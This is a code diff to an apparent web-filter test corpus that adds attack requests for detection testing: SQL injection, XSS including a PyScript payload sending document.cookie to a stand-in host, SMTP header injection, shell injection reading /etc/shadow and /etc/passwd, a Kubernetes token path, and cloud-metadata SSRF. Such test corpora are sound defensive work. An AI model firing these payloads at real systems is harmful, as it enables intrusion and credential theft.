@@ -6,6 +6,9 @@
  * commands, concatenated select lists, SQL fragments that start where the application's value
  * ends, form strings inside values, JavaScript octal escapes, and the everyday requests these
  * readings must still let through (W3C DTDs in SVG, code posted in JSON fields, base64 state).
+ * Six more were appended to the same lists later that day (doubled shell escapes, a substitution
+ * inside a substitution, a bare positional ORDER BY, PyScript, a `javascript:` protocol set in
+ * code, a global indexed by a name built from literals).
  */
 import type { CorpusRequest } from "../corpus.ts";
 
@@ -49,11 +52,21 @@ export const roundThreeAttacks: Record<string, CorpusRequest[]> = {
     get("/v1/search", `q=${enc(" AND 4410=4410 AND ('x'='x")}`),
     json("/v1/search", { q: "' union+/*!select*/ 7,8,9+from+staff-- " }),
     get(`/v1/content/${enc("7 union select name, secret from vault--")}`),
+    // (appended later the same day) a positional ORDER BY with nothing else, after the app's number
+    get("/v1/products", `category=${enc(" ORDER BY 9")}`),
   ],
   xss: [
     get(`/v1/content/${enc("prompt.apply(null,[document.domain])")}`),
     form("/v1/comments", `body=${b64flat('"><img src=x onerror=alert(document.domain)>')}`),
     get("/v1/search", `q=${enc(`[]["${octal("constructor")}"]["${octal("constructor")}"]("${octal("alert(1)")}")()`)}`),
+    json("/v1/snippets", {
+      html: "<py-script>import js; js.eval('fetch(\"//x.example/?\"+document.cookie)')</py-script>",
+    }),
+    get(
+      "/v1/search",
+      `q=${enc("a=document.createElement('a');a.href='//x.example/%0aconfirm(1)//';a.protocol='javascript:';a.click()")}`,
+    ),
+    form("/v1/comments", `body=${enc("parent[['ev'][0]+'al'](name)")}`),
   ],
   crlf: [
     get("/v1/notify", `to=${enc("ops@example.com\r\nRCPT TO: <everyone@example.com>\r\nDATA")}`),
@@ -80,6 +93,8 @@ export const roundThreeAttacks: Record<string, CorpusRequest[]> = {
     get("/v1/ping", `host=${enc("127.0.0.1;ls ${PWD:0:1}root")}`),
     json("/v1/tools/run", { target: b64("1.1.1.1 && cat /etc/shadow") }),
     get(`/v1/content/${enc(";cat /etc/passwd")}`),
+    get("/v1/ping", `host=${enc("8.8.8.8|w\\\\h\\\\o\\\\a\\\\m\\\\i")}`),
+    json("/v1/tools/run", { target: "$(`uname -a`)" }),
   ],
   traversal: [get("/v1/files", `path=${enc("/var/run/secrets/kubernetes.io/serviceaccount/token")}`)],
   ssrf: [json("/v1/webhooks", { url: "http://169。254。169。254/latest/meta-data/iam/" })],
